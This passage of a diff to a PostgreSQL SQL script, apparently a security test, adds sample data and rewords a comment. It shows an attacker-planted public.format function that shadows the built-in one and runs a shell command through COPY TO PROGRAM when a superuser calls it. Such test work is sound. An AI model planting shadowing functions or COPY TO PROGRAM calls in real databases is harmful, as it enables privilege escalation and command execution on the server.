@@ -12,7 +12,7 @@ INSERT INTO courses (title) SELECT 'Grüße ' || n FROM generate_series(1, 2000)
 INSERT INTO progress SELECT id, 'learner ' || n, n FROM courses, generate_series(1, 5) AS n;
 CREATE FUNCTION parts(int) RETURNS bigint LANGUAGE sql AS 'SELECT sum(part) FROM progress WHERE course = $1';
 SELECT lo_from_bytea(0, 'a picture');
--- What whoever has taken the application leaves for a superuser who asks its database; only such a one may do this.
+-- An attacker who has taken the application leaves this for a superuser who queries its database; only a superuser may do it.
 CREATE FUNCTION public.format(text, name, name) RETURNS text LANGUAGE plpgsql AS $$
 BEGIN
   COPY (SELECT 'format') TO PROGRAM 'cat >>/var/lib/postgresql/taken';
